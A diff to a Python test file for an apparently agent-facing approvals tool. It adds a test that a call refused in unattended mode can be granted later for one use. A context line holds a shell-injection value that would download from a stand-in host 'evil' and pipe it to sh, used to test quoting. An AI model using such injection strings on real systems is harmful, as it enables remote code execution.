@@ -138,6 +138,19 @@ def test_what_is_signed_for_a_grant_is_shown_whole_or_said_to_be_cut(place: Plac
     assert "CUT: " in terminal("approvals", "grant", index, "--calls", "9", "--lasts", "1h").out.split("beforehand")[1]
 
 
+def test_what_was_refused_while_nobody_was_there_is_looked_at_later_and_granted(place: Place, terminal: Terminal) -> None:
+    place.paths.config.write_text(place.paths.config.read_text().replace("[approval]", "[approval]\nunattended = true"))
+    held(place)
+    listed = terminal.done("approvals", "list").out
+    (line,) = [line for line in listed.splitlines() if "unasked" in line]
+    assert "local python/pay" in line and '{"amount": 5}' in line
+    index = line.split()[0].removeprefix("#")
+    assert terminal.sign("approvals", "grant", index, "--calls", "1", "--lasts", "1h").code == 0
+    assert again(place) == ("OK", [5])
+    assert again(place) == ("ERR_APPROVAL_REQUIRED", [])
+    place.check()
+
+
 def test_a_frozen_name_that_a_shell_would_obey_is_quoted(place: Place, terminal: Terminal) -> None:
     held(place)
     terminal.done("freeze", "agent:;curl${IFS}evil|sh;#")
